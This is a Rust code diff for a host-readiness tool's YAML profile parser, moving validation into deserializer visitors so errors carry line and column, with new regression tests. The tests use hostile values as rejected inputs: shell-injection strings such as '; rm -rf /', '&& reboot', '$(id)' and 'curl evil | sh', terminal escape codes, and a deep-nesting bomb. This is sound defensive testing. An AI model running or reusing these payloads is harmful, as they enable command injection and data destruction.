@@ -1,13 +1,23 @@
 //! The YAML shapes of profile files and their validation: every mistake becomes an error
 //! carrying the file, line and column, and a requirement is turned into a [`Check`] only when
 //! it has exactly one kind key and valid values.
+//!
+//! Validation that needs a location runs inside the deserializer's visitors (serde_yaml_ng
+//! gives an error raised there the line and column of the node being read): the name and the
+//! condition type in their string visitors, each requirement — its kind, values, id and
+//! whether an earlier one has the same id — in its mapping visitor.
 
-use std::collections::{BTreeMap, BTreeSet};
+use std::collections::{BTreeMap, HashMap};
+use std::fmt;
 
 use serde::Deserialize;
+use serde::de::{self, DeserializeSeed, Deserializer, MapAccess, SeqAccess, Visitor};
 
+use super::names;
+use super::prescan;
 use super::{
-    Check, CommandCheck, DEFAULT_COMMAND_TIMEOUT, MAX_COMMAND_TIMEOUT, ProfileError, Requirement,
+    Check, CommandCheck, DEFAULT_COMMAND_TIMEOUT, MAX_COMMAND_TIMEOUT, MIN_COMMAND_TIMEOUT,
+    ProfileError, Requirement,
 };
 use crate::finding::Level;
 
@@ -23,20 +33,106 @@ fn default_nfs_versions() -> Vec<String> {
 #[derive(Debug, Deserialize)]
 #[serde(deny_unknown_fields)]
 pub(super) struct RawProfile {
+    #[serde(deserialize_with = "profile_name")]
     pub(super) name: String,
     #[serde(default)]
     pub(super) description: String,
+    #[serde(default, deserialize_with = "condition_type")]
     pub(super) condition: Option<String>,
     #[serde(default)]
     pub(super) include: Vec<String>,
     #[serde(default)]
-    pub(super) requirements: Vec<RawRequirement>,
+    pub(super) requirements: Requirements,
 }
 
-/// The YAML shape of a requirement: common keys plus exactly one kind key.
-#[derive(Debug, Deserialize)]
-#[serde(deny_unknown_fields, try_from = "RawRequirementFields")]
-pub(super) struct RawRequirement(pub(super) Requirement);
+/// A string checked by `check` inside its visitor, so a refusal carries the scalar's location.
+struct CheckedStr(fn(&str) -> Result<(), String>);
+
+impl Visitor<'_> for CheckedStr {
+    type Value = String;
+
+    fn expecting(&self, f: &mut fmt::Formatter) -> fmt::Result {
+        f.write_str("a string")
+    }
+
+    fn visit_str<E: de::Error>(self, v: &str) -> Result<String, E> {
+        (self.0)(v).map_err(E::custom)?;
+        Ok(v.to_string())
+    }
+}
+
+fn profile_name<'de, D: Deserializer<'de>>(d: D) -> Result<String, D::Error> {
+    d.deserialize_str(CheckedStr(names::check_name))
+}
+
+fn condition_type<'de, D: Deserializer<'de>>(d: D) -> Result<Option<String>, D::Error> {
+    d.deserialize_str(CheckedStr(names::check_condition_type))
+        .map(Some)
+}
+
+/// A profile's requirements, in order, with unique ids.
+#[derive(Debug, Default)]
+pub(super) struct Requirements(pub(super) Vec<Requirement>);
+
+impl<'de> Deserialize<'de> for Requirements {
+    fn deserialize<D: Deserializer<'de>>(d: D) -> Result<Self, D::Error> {
+        d.deserialize_seq(RequirementsVisitor)
+    }
+}
+
+struct RequirementsVisitor;
+
+impl<'de> Visitor<'de> for RequirementsVisitor {
+    type Value = Requirements;
+
+    fn expecting(&self, f: &mut fmt::Formatter) -> fmt::Result {
+        f.write_str("a list of requirements")
+    }
+
+    fn visit_seq<A: SeqAccess<'de>>(self, mut seq: A) -> Result<Requirements, A::Error> {
+        let mut out = Vec::new();
+        let mut seen: HashMap<String, usize> = HashMap::new();
+        while let Some(r) = seq.next_element_seed(RequirementSeed { seen: &seen })? {
+            seen.insert(r.id.clone(), out.len() + 1);
+            out.push(r);
+        }
+        Ok(Requirements(out))
+    }
+}
+
+/// One requirement, read knowing the ids before it (1-based positions) to refuse a repeat.
+struct RequirementSeed<'a> {
+    seen: &'a HashMap<String, usize>,
+}
+
+impl<'de> DeserializeSeed<'de> for RequirementSeed<'_> {
+    type Value = Requirement;
+
+    fn deserialize<D: Deserializer<'de>>(self, d: D) -> Result<Requirement, D::Error> {
+        d.deserialize_map(self)
+    }
+}
+
+impl<'de> Visitor<'de> for RequirementSeed<'_> {
+    type Value = Requirement;
+
+    fn expecting(&self, f: &mut fmt::Formatter) -> fmt::Result {
+        f.write_str("a requirement (a mapping with one kind key)")
+    }
+
+    fn visit_map<A: MapAccess<'de>>(self, map: A) -> Result<Requirement, A::Error> {
+        let fields = RawRequirementFields::deserialize(de::value::MapAccessDeserializer::new(map))?;
+        let r = requirement(fields).map_err(de::Error::custom)?;
+        if let Some(earlier) = self.seen.get(&r.id) {
+            return Err(de::Error::custom(format!(
+                "requirement id {:?} appears twice (requirement {earlier} of this file has it \
+                 too); give one of them another `id:`",
+                r.id
+            )));
+        }
+        Ok(r)
+    }
+}
 
 #[derive(Debug, Deserialize)]
 #[serde(deny_unknown_fields)]
@@ -117,105 +213,115 @@ struct MountFields {
 
 const KIND_KEYS: &str = "executable, kernel_module, service, multipathd, nfs_client, nfs_default_version, hugepages, cpu_flags, kernel_version, mount_propagation, command";
 
-impl TryFrom<RawRequirementFields> for RawRequirement {
-    type Error = String;
-
-    fn try_from(r: RawRequirementFields) -> Result<Self, String> {
-        let mut kinds: Vec<Check> = Vec::new();
-        if let Some(name) = r.executable {
-            if name.is_empty() || name.contains('\0') {
-                return Err("executable must be a non-empty name or absolute path".into());
-            }
-            kinds.push(Check::Executable(name));
+/// Turns a requirement's fields into a [`Requirement`]: exactly one kind, valid values, a
+/// valid id.
+fn requirement(r: RawRequirementFields) -> Result<Requirement, String> {
+    let mut kinds: Vec<Check> = Vec::new();
+    if let Some(name) = r.executable {
+        if name.is_empty() || name.contains('\0') {
+            return Err("executable must be a non-empty name or absolute path".into());
         }
-        if let Some(name) = r.kernel_module {
-            kinds.push(Check::KernelModule {
-                name,
-                config: r.config.clone(),
-            });
-        } else if r.config.is_some() {
-            return Err("`config` only goes with `kernel_module`".into());
-        }
-        if let Some(s) = r.service {
-            kinds.push(Check::Service {
-                name: s.name,
-                process: s.process,
-                socket: s.socket,
-            });
-        }
-        if let Some(m) = r.multipathd {
-            kinds.push(Check::Multipathd { devices: m.devices });
-        }
-        if r.nfs_client.is_some() {
-            kinds.push(Check::NfsClient {});
-        }
-        if let Some(n) = r.nfs_default_version {
-            kinds.push(Check::NfsDefaultVersion { allowed: n.allowed });
-        }
-        if let Some(h) = r.hugepages {
-            kinds.push(Check::Hugepages {
-                page_size_kib: h.page_size_kib,
-                min_pages: h.min_pages,
-            });
-        }
-        if let Some(c) = r.cpu_flags {
-            kinds.push(Check::CpuFlags(c));
-        }
-        if let Some(k) = r.kernel_version {
-            if hostready_host::kernel::version_triple(&k.min).is_none() {
-                return Err(format!(
-                    "kernel_version.min {:?} is not a version like 5.8",
-                    k.min
-                ));
-            }
-            for bad in &k.known_bad {
-                crate::checks::kernel::parse_known_bad(bad)?;
-            }
-            kinds.push(Check::KernelVersion {
-                min: k.min,
-                known_bad: k.known_bad,
-            });
-        }
-        if let Some(m) = r.mount_propagation {
-            if !m.path.starts_with('/') {
-                return Err(format!(
-                    "mount_propagation.path {:?} must be absolute",
-                    m.path
-                ));
-            }
-            kinds.push(Check::MountPropagation { path: m.path });
-        }
-        if let Some(argv) = r.command {
-            kinds.push(Check::Command(command_check(
-                argv,
-                r.timeout,
-                r.on_timeout,
-                r.env.unwrap_or_default(),
-            )?));
-        } else if r.timeout.is_some() || r.on_timeout.is_some() || r.env.is_some() {
-            return Err("`timeout`, `on_timeout` and `env` only go with `command`".into());
-        }
-        let check =
-            match kinds.len() {
-                1 => kinds.remove(0),
-                0 => return Err(format!("a requirement needs one of: {KIND_KEYS}")),
-                _ => return Err(
-                    "a requirement has exactly one kind key; split it into several requirements"
-                        .into(),
-                ),
-            };
-        let id = r.id.unwrap_or_else(|| check.default_id());
-        if id.is_empty() || id.chars().any(|c| c.is_whitespace()) {
-            return Err(format!("id {id:?} must be non-empty with no spaces"));
-        }
-        Ok(RawRequirement(Requirement {
-            id,
-            level: r.level,
-            description: r.description,
-            packages: r.packages,
-            check,
-        }))
+        kinds.push(Check::Executable(name));
     }
+    for (family, names) in &r.packages {
+        names::check_packages(family, names)?;
+    }
+    if let Some(name) = r.kernel_module {
+        names::check_module(&name)?;
+        if let Some(c) = &r.config {
+            names::check_config_option(c)?;
+        }
+        kinds.push(Check::KernelModule {
+            name,
+            config: r.config.clone(),
+        });
+    } else if r.config.is_some() {
+        return Err("`config` only goes with `kernel_module`".into());
+    }
+    if let Some(s) = r.service {
+        names::check_service(&s.name)?;
+        kinds.push(Check::Service {
+            name: s.name,
+            process: s.process,
+            socket: s.socket,
+        });
+    }
+    if let Some(m) = r.multipathd {
+        kinds.push(Check::Multipathd { devices: m.devices });
+    }
+    if r.nfs_client.is_some() {
+        kinds.push(Check::NfsClient {});
+    }
+    if let Some(n) = r.nfs_default_version {
+        kinds.push(Check::NfsDefaultVersion { allowed: n.allowed });
+    }
+    if let Some(h) = r.hugepages {
+        kinds.push(Check::Hugepages {
+            page_size_kib: h.page_size_kib,
+            min_pages: h.min_pages,
+        });
+    }
+    if let Some(c) = r.cpu_flags {
+        kinds.push(Check::CpuFlags(c));
+    }
+    if let Some(k) = r.kernel_version {
+        if hostready_host::kernel::version_triple(&k.min).is_none() {
+            return Err(format!(
+                "kernel_version.min {:?} is not a version like 5.8",
+                k.min
+            ));
+        }
+        for bad in &k.known_bad {
+            crate::checks::kernel::parse_known_bad(bad)?;
+        }
+        kinds.push(Check::KernelVersion {
+            min: k.min,
+            known_bad: k.known_bad,
+        });
+    }
+    if let Some(m) = r.mount_propagation {
+        names::check_command_path("mount_propagation.path", &m.path)?;
+        kinds.push(Check::MountPropagation { path: m.path });
+    }
+    if let Some(argv) = r.command {
+        kinds.push(Check::Command(command_check(
+            argv,
+            r.timeout,
+            r.on_timeout,
+            r.env.unwrap_or_default(),
+        )?));
+    } else if r.timeout.is_some() || r.on_timeout.is_some() || r.env.is_some() {
+        return Err("`timeout`, `on_timeout` and `env` only go with `command`".into());
+    }
+    let check = match kinds.len() {
+        1 => kinds.remove(0),
+        0 => return Err(format!("a requirement needs one of: {KIND_KEYS}")),
+        _ => {
+            return Err(
+                "a requirement has exactly one kind key; split it into several requirements".into(),
+            );
+        }
+    };
+    let id = match r.id {
+        Some(id) => {
+            names::check_id(&id)?;
+            id
+        }
+        None => {
+            let id = check.default_id();
+            names::check_id(&id).map_err(|e| {
+                format!("{e} (it is the default id of this requirement: give it an `id:`)")
+            })?;
+            id
+        }
+    };
+    Ok(Requirement {
+        id,
+        level: r.level,
+        description: r.description,
+        packages: r.packages,
+        check,
+    })
 }
 
 fn command_check(
@@ -241,11 +347,16 @@ fn command_check(
         None => DEFAULT_COMMAND_TIMEOUT,
         Some(t) => humantime::parse_duration(&t).map_err(|e| format!("timeout {t:?}: {e}"))?,
     };
-    if timeout.is_zero() || timeout > MAX_COMMAND_TIMEOUT {
+    if timeout < MIN_COMMAND_TIMEOUT || timeout > MAX_COMMAND_TIMEOUT {
         return Err(format!(
-            "timeout must be between 1ms and {}",
+            "timeout {} must be between {} and {}",
+            humantime::format_duration(timeout),
+            humantime::format_duration(MIN_COMMAND_TIMEOUT),
             humantime::format_duration(MAX_COMMAND_TIMEOUT)
         ));
+    }
+    for (k, v) in &env {
+        names::check_env(k, v)?;
     }
     let on_timeout = on_timeout.unwrap_or(Status::Unknown);
     if !matches!(on_timeout, Status::Unknown | Status::Fail) {
@@ -259,9 +370,21 @@ fn command_check(
     })
 }
 
-/// Parses one profile's YAML without expanding its includes.
+/// Parses one profile's YAML without expanding its includes: a leading byte-order mark is
+/// dropped (editors on Windows write one), the nesting depth is bounded by
+/// [`prescan::nesting_depth`] before the parser runs, then the YAML is parsed and validated.
 pub(super) fn parse(text: &str, file: &str) -> Result<RawProfile, ProfileError> {
-    let raw: RawProfile = serde_yaml_ng::from_str(text).map_err(|e| match e.location() {
+    let text = text.strip_prefix('\u{feff}').unwrap_or(text);
+    prescan::nesting_depth(text, prescan::MAX_DEPTH).map_err(|at| ProfileError::Invalid {
+        file: file.to_string(),
+        line: at.line,
+        column: at.column,
+        message: format!(
+            "collections nest deeper than {} levels (a profile needs about five)",
+            prescan::MAX_DEPTH
+        ),
+    })?;
+    serde_yaml_ng::from_str(text).map_err(|e| match e.location() {
         Some(loc) => ProfileError::Invalid {
             file: file.to_string(),
             line: loc.line(),
@@ -272,23 +395,7 @@ pub(super) fn parse(text: &str, file: &str) -> Result<RawProfile, ProfileError> 
             file: file.to_string(),
             message: e.to_string(),
         },
-    })?;
-    if raw.name.is_empty() {
-        return Err(ProfileError::InvalidNoLocation {
-            file: file.to_string(),
-            message: "`name` is empty".into(),
-        });
-    }
-    let mut seen = BTreeSet::new();
-    for r in &raw.requirements {
-        if !seen.insert(&r.0.id) {
-            return Err(ProfileError::InvalidNoLocation {
-                file: file.to_string(),
-                message: format!("requirement id {:?} appears twice", r.0.id),
-            });
-        }
-    }
-    Ok(raw)
+    })
 }
 
 /// serde_yaml puts " at line L column C" in its message; we print the location ourselves.
@@ -338,12 +445,12 @@ mod tests {
             "my.yaml",
         )
         .unwrap();
-        let Check::Command(c) = &p.requirements[0].0.check else {
+        let Check::Command(c) = &p.requirements.0[0].check else {
             panic!()
         };
         assert_eq!(c.argv, ["/usr/local/bin/check-disk", "--dev", "sdb"]);
         assert_eq!(c.timeout, std::time::Duration::from_secs(5));
-        assert_eq!(p.requirements[0].0.id, "custom.disk-alive");
+        assert_eq!(p.requirements.0[0].id, "custom.disk-alive");
         let e = parse_err("name: x\nrequirements:\n  - command: [check-disk]\n");
         assert!(e.contains("absolute"), "{e}");
         let e = parse_err("name: x\nrequirements:\n  - command: [/bin/x]\n    timeout: soon\n");
@@ -352,5 +459,191 @@ mod tests {
         assert!(e.contains("only go with `command`"), "{e}");
         let e = parse_err("name: x\nrequirements:\n  - command: [/bin/x]\n    on_timeout: pass\n");
         assert!(e.contains("on_timeout"), "{e}");
+    }
+}
+
+/// Regression tests for the validation gaps of issue 10: each mistake is refused with the
+/// line and column of the node that holds it.
+#[cfg(test)]
+mod gap_tests {
+    use super::*;
+
+    /// Returns the error of parsing `text` as `my.yaml`, asserting it starts with `at`.
+    fn refused_at(text: &str, at: &str) -> String {
+        match parse(text, "my.yaml") {
+            Err(e) => {
+                let e = e.to_string();
+                assert!(e.starts_with(&format!("my.yaml:{at}: ")), "want {at}: {e}");
+                e
+            }
+            Ok(p) => panic!("parsed: {p:?}"),
+        }
+    }
+
+    #[test]
+    fn an_error_in_a_later_requirement_names_its_own_line() {
+        let e = refused_at(
+            "name: x\nrequirements:\n  - executable: a\n  - executable: b\n\n  - id: q\n",
+            "6:5",
+        );
+        assert!(e.contains("needs one of"), "{e}");
+    }
+
+    #[test]
+    fn duplicate_ids_name_the_second_one() {
+        let e = refused_at(
+            "name: x\nrequirements:\n  - executable: a\n  - id: q\n    executable: b\n  - executable: a\n",
+            "6:5",
+        );
+        assert!(
+            e.contains("\"exe.a\" appears twice") && e.contains("requirement 1"),
+            "{e}"
+        );
+        refused_at(
+            "name: x\nrequirements: [{id: q, executable: a}, {id: q, nfs_client: {}}]\n",
+            "2:40",
+        );
+    }
+
+    #[test]
+    fn an_empty_or_unprintable_name_is_refused_where_it_is() {
+        let e = refused_at("name: \"\"\nrequirements: []\n", "1:7");
+        assert!(e.contains("`name` is empty"), "{e}");
+        refused_at("description: d\nname: \"x\\e[32mPASS\"\n", "2:7");
+    }
+
+    #[test]
+    fn a_leading_byte_order_mark_is_accepted() {
+        for text in [
+            "\u{feff}name: x\nrequirements:\n  - executable: a\n",
+            "\u{feff}# mine\nname: x\n",
+            "\u{feff}---\nname: x\n",
+        ] {
+            let p = parse(text, "my.yaml").unwrap_or_else(|e| panic!("{text:?}: {e}"));
+            assert_eq!(p.name, "x");
+        }
+        // Columns of the first line are the ones an editor shows (the mark is invisible).
+        refused_at("\u{feff}name: \"\"\n", "1:7");
+    }
+
+    #[test]
+    fn timeouts_below_one_millisecond_are_refused() {
+        for t in ["1ns", "999us", "0s"] {
+            let e = refused_at(
+                &format!("name: x\nrequirements:\n  - command: [/bin/true]\n    timeout: {t}\n"),
+                "3:5",
+            );
+            assert!(e.contains("between 1ms and 10m"), "{e}");
+        }
+        let p = parse(
+            "name: x\nrequirements:\n  - command: [/bin/true]\n    timeout: 1ms\n",
+            "my.yaml",
+        )
+        .unwrap();
+        let Check::Command(c) = &p.requirements.0[0].check else {
+            panic!()
+        };
+        assert_eq!(c.timeout, MIN_COMMAND_TIMEOUT);
+    }
+
+    #[test]
+    fn nul_and_equals_in_env_and_nul_in_argv_are_refused() {
+        for (env, what) in [
+            ("{\"A\\0B\": x}", "env name"),
+            ("{\"A=B\": x}", "env name"),
+            ("{\"\": x}", "env name"),
+            ("{A: \"x\\0y\"}", "cannot contain NUL"),
+        ] {
+            let e = refused_at(
+                &format!("name: x\nrequirements:\n  - command: [/bin/true]\n    env: {env}\n"),
+                "3:5",
+            );
+            assert!(e.contains(what), "{env}: {e}");
+        }
+        let e = refused_at(
+            "name: x\nrequirements:\n  - id: a\n    command: [/bin/true, \"a\\0b\"]\n",
+            "3:5",
+        );
+        assert!(e.contains("NUL"), "{e}");
+    }
+
+    #[test]
+    fn ids_with_control_characters_are_refused() {
+        for id in [
+            "\"a\\e[31m\"",
+            "\"a\\0\"",
+            "\"a\\tb\"",
+            "\"a\\x7f\"",
+            "\"ok\\nFAIL\"",
+            "\"é\"",
+        ] {
+            let e = refused_at(
+                &format!(
+                    "name: x\nrequirements:\n  - executable: a\n  - id: {id}\n    executable: b\n"
+                ),
+                "4:5",
+            );
+            assert!(e.contains("requirement id"), "{id}: {e}");
+        }
+        // A default id made from a hostile executable name is refused too, and says so.
+        let e = refused_at(
+            "name: x\nrequirements:\n  - executable: \"a\\e[2J\"\n",
+            "3:5",
+        );
+        assert!(e.contains("default id"), "{e}");
+    }
+
+    #[test]
+    fn values_shown_in_suggested_commands_are_refused_unless_plain() {
+        for (req, what) in [
+            ("kernel_module: \"iscsi_tcp; reboot\"", "kernel module"),
+            ("kernel_module: ../../etc/x", "kernel module"),
+            (
+                "{kernel_module: a, config: \"CONFIG_A $(id)\"}",
+                "config option",
+            ),
+            ("service: {name: \"x && reboot\"}", "service name"),
+            (
+                "mount_propagation: {path: \"/var/lib/x; rm -rf /\"}",
+                "mount_propagation.path",
+            ),
+            (
+                "{executable: a, packages: {debian: \"ok; curl evil | sh\"}}",
+                "package name",
+            ),
+        ] {
+            let e = refused_at(&format!("name: x\nrequirements:\n  - {req}\n"), "3:5");
+            assert!(e.contains(what), "{req}: {e}");
+        }
+    }
+
+    #[test]
+    fn kubelet_and_invalid_condition_types_are_refused() {
+        for c in [
+            "Ready",
+            "ready",
+            "MemoryPressure",
+            "PIDPressure",
+            "DiskPressure",
+            "NetworkUnavailable",
+            "kubernetes.io/Mine",
+            "Not Valid",
+            "\"\"",
+        ] {
+            let e = refused_at(&format!("name: x\ncondition: {c}\n"), "2:12");
+            assert!(e.contains("condition type"), "{c}: {e}");
+        }
+        let p = parse("name: x\ncondition: example.com/StorageReady\n", "my.yaml").unwrap();
+        assert_eq!(p.condition.as_deref(), Some("example.com/StorageReady"));
+    }
+
+    #[test]
+    fn deep_nesting_is_refused_before_parsing() {
+        // 200 KB of `[`: libyaml alone took minutes on this; the pre-scan stops at level 33.
+        let text = format!("name: x\nrequirements: {}\n", "[".repeat(200_000));
+        let e = refused_at(&text, "2:46");
+        assert!(e.contains("nest deeper than 32"), "{e}");
+        let text = format!("name: x\nrequirements:\n{}", "  - ".repeat(40));
+        refused_at(&text, "3:127");
     }
 }
